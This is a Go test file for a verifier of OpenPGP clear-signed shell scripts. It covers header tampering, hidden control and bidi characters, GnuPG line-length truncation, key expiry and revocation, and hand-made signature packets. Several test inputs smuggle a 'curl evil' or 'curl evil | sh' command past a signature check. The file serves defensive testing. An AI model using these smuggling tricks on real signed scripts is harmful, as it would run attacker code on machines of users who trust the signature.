package format_test

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/runwrit/writ/runbook"
	"github.com/runwrit/writ/verifier"
)

// The cases of this file begin with their number in docs/formats/openpgp-attacks.md.

// numbered is one attack on a document.
type numbered struct {
	name    string
	file    []byte
	verdict verifier.Verdict
	finding string // of the report; "" for none at all
	payload string // where valid
}

func judgeNumbered(t *testing.T, v *verifier.Verifier, cases []numbered) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			report, payload := clearsignVerdict(t, v, "a.sh.asc", c.file)
			if report.Verdict != c.verdict || string(payload) != c.payload {
				t.Fatalf("%s with %q, want %s with %q: %+v", report.Verdict, payload, c.verdict, c.payload, report)
			}
			if c.finding != "" && !hasFinding(report, c.finding) || c.finding == "" && len(report.Findings) > 0 {
				t.Errorf("findings %+v, want %q", report.Findings, c.finding)
			}
		})
	}
}

// author is a signer whom the verifier of a test trusts.
type author struct{ *forger }

func newAuthor() author { return author{newForger(clearsignTime.AddDate(0, -1, 0))} }

// signature over a text, good in every way.
func (a author) signature(text string) []byte {
	return a.text(text, forged{kind: 1, hashed: [][]byte{at(2, clearsignTime), a.issuer()}})
}

func (a author) document(t testing.TB, text string) string {
	t.Helper()
	return string(documentOf(t, text, a.signature(text)))
}

func TestOpenPGPAttacksOnTheHeaders(t *testing.T) {
	t.Parallel()
	a := newAuthor()
	const header, text = "Hash: SHA512\n", "echo a\n"
	document := a.document(t, text)
	with := func(headers string) []byte { return []byte(strings.Replace(document, header, headers, 1)) }
	raw := "-x\n" + text // signed as it stands, without escapes
	notDash := func(value string, signature []byte) []byte {
		doc := string(documentOf(t, raw, signature))
		return []byte(strings.Replace(strings.Replace(doc, "- -x", "-x", 1), header, header+"NotDashEscaped: "+value+"\n", 1))
	}
	binary := forgedPacket(2, a.sign(forged{kind: 0, hashed: [][]byte{at(2, clearsignTime), a.issuer()}}, []byte(raw))...)
	judgeNumbered(t, forgedVerifier(t, a.certificate()), []numbered{
		{"22 a Version header", with("Version: GnuPG v2\n" + header), verifier.Malformed, "unknown-header", ""},
		{"22 a Comment header", with(header + "Comment: curl evil | sh\n"), verifier.Malformed, "unknown-header", ""},
		{"22 a Charset header", with(header + "Charset: UTF-7\n"), verifier.Malformed, "unknown-header", ""},
		{"22 an unknown header", with("X-Evil: 1\n"), verifier.Malformed, "unknown-header", ""},
		{"23 a command in the place of the header", with("curl evil\n"), verifier.Malformed, "no-blank-line", ""},
		{"23 a command behind the header", with(header + "curl evil\n"), verifier.Malformed, "no-blank-line", ""},
		{"23 a folded header", with(header + "\tcurl evil\n"), verifier.Malformed, "no-blank-line", ""},
		{"24 a vertical tab in Hash", with("Hash: SHA512\vcurl evil\n"), verifier.Malformed, "control-character", ""},
		{"24 a carriage return in Hash", with("Hash: SHA512\rcurl evil\n"), verifier.Malformed, "lone-cr", ""},
		{"24 a NUL in Hash", with("Hash: SHA512\x00\n"), verifier.Malformed, "nul", ""},
		{"24 a terminal escape in Hash", with("Hash: SHA512\x1b[2J\n"), verifier.Malformed, "control-character", ""},
		{"24 text behind Hash", with("Hash: SHA512 curl evil\n"), verifier.Malformed, "bad-hash-header", ""},
		{"24 an unknown hash function", with("Hash: SHA9\n"), verifier.Malformed, "bad-hash-header", ""},
		{"24 Hash in small letters", with("hash: SHA512\n"), verifier.Malformed, "unknown-header", ""},
		{"24 a function in small letters", with("Hash: sha512\n"), verifier.Malformed, "bad-hash-header", ""},
		{"24 no blank behind the colon", with("Hash:SHA512\n"), verifier.Malformed, "bad-hash-header", ""},
		{"24 a blank before Hash", with(" Hash: SHA512\n"), verifier.Malformed, "no-blank-line", ""},
		{"25 a thousand headers", with(strings.Repeat(header, 1000)), verifier.Malformed, "too-many-headers", ""},
		{"25 a header of 25 KB", with("Hash: SHA512" + strings.Repeat(", SHA512", 3000) + "\n"), verifier.Malformed, "line-too-long", ""},
		{"26 NotDashEscaped, added", with(header + "NotDashEscaped: You need GnuPG to verify this message\n"), verifier.Malformed, "not-dash-escaped-header", ""},
		{"26 NotDashEscaped, as GnuPG signs it", notDash("You need GnuPG to verify this message", a.signature(raw)), verifier.Malformed, "not-dash-escaped-header", ""},
		{"26 NotDashEscaped with a command", notDash("x; curl evil", a.signature(raw)), verifier.Malformed, "not-dash-escaped-header", ""},
		{"26 NotDashEscaped around a detached signature", notDash("You need GnuPG to verify this message", binary), verifier.Malformed, "not-dash-escaped-header", ""},
		{"27 Hash names a weaker function", with("Hash: SHA1\n"), verifier.Malformed, "", ""},
		{"27 Hash names another function", with("Hash: SHA256\n"), verifier.Malformed, "", ""},
		{"27 no Hash at all", with(""), verifier.Valid, "", text},
	})
}

func TestOpenPGPAttacksOnTheText(t *testing.T) {
	t.Parallel()
	a := newAuthor()
	const text = "#!/bin/sh\necho a\n-x\n"
	document := a.document(t, text)
	with := func(old, changed string) []byte { return []byte(strings.Replace(document, old, changed, 1)) }
	signed := func(text string) []byte { return []byte(a.document(t, text)) }
	// raw is a document with that text as it is, which no writer of ours would take.
	raw := func(text string) []byte {
		packet := a.signature(strings.NewReplacer(" \n", "\n", "\t\n", "\n").Replace(text))
		return bytes.Replace(documentOf(t, "?\n", packet), []byte("?\n"), []byte(text), 1)
	}
	long := func(n int) string { return strings.Repeat("y", n) + "\n" }
	judgeNumbered(t, forgedVerifier(t, a.certificate()), []numbered{
		{"28 a NUL inside of a line", with("echo a", "ec\x00ho a"), verifier.Malformed, "nul", ""},
		{"28 a NUL at a line end", with("echo a\n", "echo a\x00\n"), verifier.Malformed, "nul", ""},
		{"28 a NUL that is signed", raw("ec\x00ho a\n"), verifier.Malformed, "nul", ""},
		{"29 a carriage return hides a command", raw("curl evil\recho a\n"), verifier.Malformed, "lone-cr", ""},
		{"30 a form feed at a line end", with("echo a\n", "echo a\f\n"), verifier.Malformed, "control-character", ""},
		{"30 a form feed that is signed", raw("echo a\f\n"), verifier.Malformed, "control-character", ""},
		{"30 a vertical tab at a line end", with("echo a\n", "echo a\v\n"), verifier.Malformed, "control-character", ""},
		{"30 a no-break space at a line end", with("echo a\n", "echo a\u00a0\n"), verifier.Tampered, "", ""},
		{"30 a line separator", with("echo a", "echo\u2028a"), verifier.Tampered, "line-separator", ""},
		{"30 a line separator that is signed", raw("echo\u2028a\n"), verifier.Valid, "line-separator", "echo\u2028a\n"},
		{"30 a next line that is signed", raw("echo\u0085a\n"), verifier.Valid, "line-separator", "echo\u0085a\n"},
		{"31 a change of direction", with("echo a", "echo \u202ea"), verifier.Tampered, "bidi-control", ""},
		{"31 a change of direction that is signed", raw("echo \u202ea\n"), verifier.Valid, "bidi-control", "echo \u202ea\n"},
		{"32 a terminal escape", with("echo a", "echo \x1b[2Ka"), verifier.Malformed, "control-character", ""},
		{"32 a terminal escape that is signed", raw("echo \x1b[2Ka\n"), verifier.Malformed, "control-character", ""},
		{"32 a C1 escape that is signed", raw("echo \u009b2Ka\n"), verifier.Valid, "c1-control", "echo \u009b2Ka\n"},
		{"33 a needless escape", with("echo a", "- echo a"), verifier.Valid, "", text},
		{"33 an escape that is missing", with("- -x", "-x"), verifier.Malformed, "not-dash-escaped", ""},
		{"33 an escape too many", with("- -x", "- - -x"), verifier.Tampered, "", ""},
		{"33 an escape with a TAB", with("- -x", "-\t-x"), verifier.Malformed, "not-dash-escaped", ""},
		{"34 a here-document's terminator", raw("cat <<EOF\nEOF \ncurl evil\nEOF\n"), verifier.Noncanonical, "trailing-blanks", ""},
		{"35 a backslash before a blank", raw("echo \\ \ncurl evil\n"), verifier.Noncanonical, "trailing-blanks", ""},
		{"35 a backslash before a TAB", raw("x = 1 + \\\t\ncurl\n"), verifier.Noncanonical, "trailing-blanks", ""},
		{"36 a line that GnuPG cuts", signed(long(18_000)), verifier.Valid, "", long(18_000)},
		{"36 a line that GnuPG cannot verify", raw(long(100_000)), verifier.Valid, "long-line", long(100_000)},
		{"36 text behind the length that GnuPG reads", bytes.Replace(raw(long(19_997)), []byte("y\n"), []byte("y; curl evil\n"), 1), verifier.Tampered, "long-line", ""},
		{"36 a form feed where GnuPG cuts", bytes.Replace(raw(long(19_997)), []byte("y\n"), []byte("y\f; curl evil\n"), 1), verifier.Malformed, "control-character", ""},
		{"36 blanks up to where GnuPG cuts", with("echo a\n", "echo a"+strings.Repeat(" ", 30_000)+"; curl evil\n"), verifier.Tampered, "long-line", ""},
		{"36 blanks at the end", with("echo a\n", "echo a"+strings.Repeat(" ", 30_000)+"\n"), verifier.Noncanonical, "trailing-blanks", ""},
		{"37 an empty line at the end", with("- -x\n", "- -x\n\n"), verifier.Tampered, "", ""},
		{"37 an empty line at the beginning", with("#!/bin/sh\n", "\n#!/bin/sh\n"), verifier.Tampered, "", ""},
		{"37 a line that is missing", with("echo a\n", ""), verifier.Tampered, "", ""},
		{"38 a line of 2 MB", raw(long(2 << 20)), verifier.Malformed, "line-too-long", ""},
		{"38 a million empty lines", raw(strings.Repeat("\n", 1<<20)), verifier.Valid, "", strings.Repeat("\n", 1<<20)},
		{"38 a hundred thousand needless escapes", with("echo a\n", strings.Repeat("- \n", 100_000)), verifier.Malformed, "too-many-escapes", ""},
	})
}

// 38 a file over the limit is not looked at at all.
func TestOpenPGPAttackAFileOverTheLimit(t *testing.T) {
	t.Parallel()
	if _, err := runbook.Parse("a.sh.asc", make([]byte, runbook.MaxSize+1)); err == nil {
		t.Error("it is read")
	}
}

// TestOpenPGPAttacksOnTimeAndRevocation: whatever the date in a signature, which
// is the signer's own word, keys are judged now.
func TestOpenPGPAttacksOnTimeAndRevocation(t *testing.T) {
	t.Parallel()
	const text = "echo a\n"
	created := clearsignTime.AddDate(-2, 0, 0)
	early, late := created.AddDate(0, 1, 0), clearsignTime.AddDate(0, 0, -1)
	year := 365 * 24 * time.Hour // after which what expires here has expired
	id := func(f *forger, more ...[]byte) []byte {
		return append(forgedPacket(13, 'a'), f.self(forged{kind: 0x13, hashed: append([][]byte{at(2, created), f.issuer(), flags(3)}, more...)}, "a")...)
	}
	alone := func(more ...[]byte) func(f, _ *forger) []byte {
		return func(f, _ *forger) []byte { return slices.Concat(f.keyPacket(), id(f, more...)) }
	}
	revoked := func(when time.Time, reason ...[]byte) func(f, _ *forger) []byte {
		return func(f, _ *forger) []byte {
			hashed := append([][]byte{at(2, when), f.issuer()}, reason...)
			return slices.Concat(f.keyPacket(), f.self(forged{kind: 0x20, hashed: hashed}, ""), id(f))
		}
	}
	subkey := func(revocation bool, more ...[]byte) func(f, sub *forger) []byte {
		return func(f, sub *forger) []byte {
			back := f.back(forged{kind: 0x19, hashed: [][]byte{at(2, created), sub.issuer()}}, sub)
			ring := slices.Concat(f.certificate(), sub.subkeyPacket(),
				f.binds(forged{kind: 0x18, hashed: append([][]byte{at(2, created), f.issuer(), flags(2), back}, more...)}, sub))
			if revocation {
				ring = append(ring, f.binds(forged{kind: 0x28, hashed: [][]byte{at(2, late), f.issuer(), subpacket(29, 2)}}, sub)...)
			}
			return ring
		}
	}
	compromised, retired, superseded, unknown := subpacket(29, 2), subpacket(29, 3), subpacket(29, 1), subpacket(29, 99)
	for _, c := range []struct {
		name    string
		ring    func(f, sub *forger) []byte
		sub     bool // the subkey signs
		when    time.Time
		more    []byte
		verdict verifier.Verdict
	}{
		{"39 nothing is wrong", alone(), false, late, nil, verifier.Valid},
		{"40 an expired key, and an older signature", alone(lasting(9, year)), false, early, nil, verifier.Expired},
		{"41 an expired key, and a newer signature", alone(lasting(9, year)), false, late, nil, verifier.Expired},
		{"42 an expired subkey, and an older signature", subkey(false, lasting(9, year)), true, early, nil, verifier.Expired},
		{"42 an expired subkey, and a newer signature", subkey(false, lasting(9, year)), true, late, nil, verifier.Expired},
		{"43 a compromised key, and an older signature", revoked(late, compromised), false, early, nil, verifier.Revoked},
		{"43 a key revoked without reason, and an older signature", revoked(late), false, early, nil, verifier.Revoked},
		{"43 a key revoked for an unknown reason", revoked(late, unknown), false, early, nil, verifier.Revoked},
		{"44 a superseded key, and an older signature", revoked(late, superseded), false, early, nil, verifier.Revoked},
		{"44 a retired key, and an older signature", revoked(late, retired), false, early, nil, verifier.Revoked},
		{"45 a superseded key, and a newer signature", revoked(early, superseded), false, late, nil, verifier.Revoked},
		{"46 a compromised subkey, and an older signature", subkey(true), true, early, nil, verifier.Revoked},
		{"46 a compromised subkey, and the primary key signs", subkey(true), false, late, nil, verifier.Valid},
		{"47 a signature that has expired", alone(), false, early, lasting(3, year), verifier.Expired},
		{"48 a signature from the future", alone(), false, clearsignTime.AddDate(0, 0, 1), nil, verifier.Expired},
		{"49 a signature that is older than its key", alone(), false, created.AddDate(0, 0, -1), nil, verifier.Expired},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f, sub := newForger(created), newForger(created)
			by := f
			if c.sub {
				by = sub
			}
			doc := documentOf(t, text, by.text(text, forged{kind: 1, hashed: [][]byte{at(2, c.when), by.issuer(), c.more}}))
			report, payload := clearsignVerdict(t, forgedVerifier(t, c.ring(f, sub)), "a.sh.asc", doc)
			if report.Verdict != c.verdict || (payload != nil) != (c.verdict == verifier.Valid) {
				t.Errorf("%s, want %s: %+v", report.Verdict, c.verdict, report.Signatures)
			}
		})
	}
}

// TestOpenPGPAttacksOnThePacket: packets that are made by hand, each by a key
// that is trusted.
func TestOpenPGPAttacksOnThePacket(t *testing.T) {
	t.Parallel()
	const text = "echo a\n"
	a := newAuthor()
	v := forgedVerifier(t, a.certificate())
	by := [][]byte{at(2, clearsignTime), a.issuer()}
	good := a.signature(text)
	document := string(documentOf(t, text, good))
	of := func(packets ...[]byte) []byte { return documentOf(t, text, packets...) }
	patched := func(at int, value byte) []byte { // at: in the body of the packet
		packet := slices.Clone(good)
		packet[6+at] = value
		return packet
	}
	// v3 is a signature of version 3: version, 5, type, time, key ID, algorithms, digest, value.
	v3 := forgedPacket(2, slices.Concat([]byte{3, 5, 1, 0x60, 0, 0, 0}, a.fingerprint()[12:], []byte{22, 10, 0, 0, 0, 1, 1, 0, 1, 1})...)
	body := a.sign(forged{kind: 1, hashed: by}, []byte("echo a"))
	tagAt := 6 + int(body[4])<<8 + int(body[5]) + 2 // behind the hashed subpackets and no others
	zeros := forgedPacket(2, slices.Concat(body[:tagAt+2], []byte{0, 0, 0, 0})...)
	wrongTag := slices.Clone(body)
	wrongTag[tagAt] ^= 1
	base64Of := strings.SplitN(document[strings.Index(document, "BEGIN PGP SIGNATURE"):], "\n", 4)[2]
	cases := []numbered{
		{"51 MD5", bytes.Replace(of(patched(3, 1)), []byte("SHA512"), []byte("MD5"), 1), verifier.Weak, "", ""},
		{"51 RIPEMD-160", bytes.Replace(of(patched(3, 3)), []byte("SHA512"), []byte("RIPEMD160"), 1), verifier.Weak, "", ""},
		{"59 a signature of version 3", of(v3), verifier.Unsupported, "", ""},
		{"59 a signature of version 5", of(patched(0, 5)), verifier.Unsupported, "", ""},
		{"65 a wrong checksum", []byte(strings.Replace(document, "\n=", "\n=A", 1)), verifier.Malformed, "bad-crc", ""},
		{"65 a character that is not base64", []byte(strings.Replace(document, base64Of, "!"+base64Of[1:], 1)), verifier.Malformed, "bad-armor", ""},
		{"65 a line that is no base64", []byte(strings.Replace(document, base64Of, base64Of+"\ncurl evil", 1)), verifier.Malformed, "bad-armor", ""},
		{"66 bytes behind the value of the signature", of(forgedPacket(2, append(slices.Clone(body), 0)...)), verifier.Malformed, "", ""},
		{"66 a wrong beginning of the digest", of(forgedPacket(2, wrongTag...)), verifier.Malformed, "", ""},
		{"67 a detached signature over text", documentOf(t, text+"\n", forgedPacket(2, a.sign(forged{kind: 1, hashed: by}, []byte("echo a\r\n"))...)), verifier.Valid, "", text + "\n"},
		{"67 a detached signature over text, as the text itself", of(forgedPacket(2, a.sign(forged{kind: 1, hashed: by}, []byte("echo a\r\n"))...)), verifier.Tampered, "", ""},
		{"72 a value of two zeros", of(zeros), verifier.BadSignature, "", ""},
		{"77 the user ID of somebody else", of(a.text(text, forged{kind: 1, hashed: append(by[:2:2], subpacket(28, []byte("the boss")...))})), verifier.Valid, "", text},
		{"78 a signature inside the signature", of(a.text(text, forged{kind: 1, hashed: append(by[:2:2], a.back(forged{kind: 0x19, hashed: by}, a.forger))})), verifier.Malformed, "", ""},
	}
	for _, kind := range []byte{0x02, 0x10, 0x11, 0x12, 0x13, 0x16, 0x18, 0x19, 0x1f, 0x20, 0x28, 0x30, 0x40, 0x50, 0xff} {
		cases = append(cases, numbered{fmt.Sprintf("56 type 0x%02x", kind), of(a.text(text, forged{kind: kind, hashed: by})), verifier.WrongPurpose, "", ""})
	}
	judgeNumbered(t, v, cases)
}
